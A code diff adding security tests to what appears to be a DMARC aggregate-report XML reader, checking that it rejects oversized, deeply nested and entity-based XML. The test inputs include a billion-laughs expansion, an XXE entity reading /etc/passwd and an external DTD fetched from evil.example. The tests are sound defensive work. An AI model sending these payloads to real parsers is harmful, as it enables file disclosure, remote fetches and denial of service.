@@ -185,12 +185,43 @@ describe('in whatever it is written', () => {
   });
 });
 
+const MANY = 'one of its elements has more than 1000 attributes';
+
 describe('bombs', () => {
   test.each([
     ['deep', `<feedback>${'<a>'.repeat(100_000)}`, 'its elements are nested deeper than 40'],
     ['wide', `<feedback><record>${'<a/>'.repeat(30_000)}`, 'one of its parts has more than 20000 elements'],
     ['long', `<feedback><record>${'a'.repeat(2_000_000)}`, 'one of its parts has more than 1000000 characters'],
     ['a long name', `<feedback><${'a'.repeat(2_000_000)}`, /^its XML is broken: Max buffer length exceeded/],
+    ['many attributes', `<feedback ${Array.from({ length: 200_000 }, (_, n) => `a${n}="" `).join('')}`, MANY],
+    [
+      'many attributes of an extension',
+      `<feedback><x:y ${Array.from({ length: 2000 }, (_, n) => `a${n}="" `).join('')}>`,
+      MANY,
+    ],
+    ['no end', `<feedback>${' '.repeat(2_000_000)}`, 'it ends before it is complete'],
+    ['a long comment', `<feedback><!--${'a'.repeat(2_000_000)}`, /^its XML is broken: Max buffer length exceeded/],
+    ['a long number', `<feedback><record>&#${'1'.repeat(2_000_000)}`, /^its XML is broken/],
+    [
+      'an entity of its own',
+      '<feedback><record>&lol;</record></feedback>',
+      /^its XML is broken: Invalid character entity/,
+    ],
+    [
+      'a billion laughs',
+      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;">]><feedback>&lol1;</feedback>',
+      'it has a document type, which no report needs',
+    ],
+    [
+      'a file of ours',
+      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><feedback>&e;</feedback>',
+      'it has a document type, which no report needs',
+    ],
+    [
+      'a parameter entity from elsewhere',
+      '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]><feedback/>',
+      'it has a document type, which no report needs',
+    ],
     ['a long attribute', `<feedback a="${'a'.repeat(2_000_000)}"`, /^its XML is broken: Max buffer length exceeded/],
   ])('%s', (_, text, reason) => {
     const reader = createAggregateReader();
@@ -199,6 +230,13 @@ describe('bombs', () => {
       ok: false,
       reason: typeof reason === 'string' ? reason : expect.stringMatching(reason),
     });
+  });
+
+  test('too many results', () => {
+    const many = `<record><row><count>1</count></row><auth_results>${'<dkim><domain>a</domain></dkim>'.repeat(100)}</auth_results></record>`;
+    const reader = createAggregateReader({ maxResults: 250 });
+    reader.write(`<feedback>${meta}${policy}${many.repeat(3)}</feedback>`);
+    expect(reader.end()).toEqual({ ok: false, reason: 'its records have more than 250 results' });
   });
 
   test('too many records', () => {
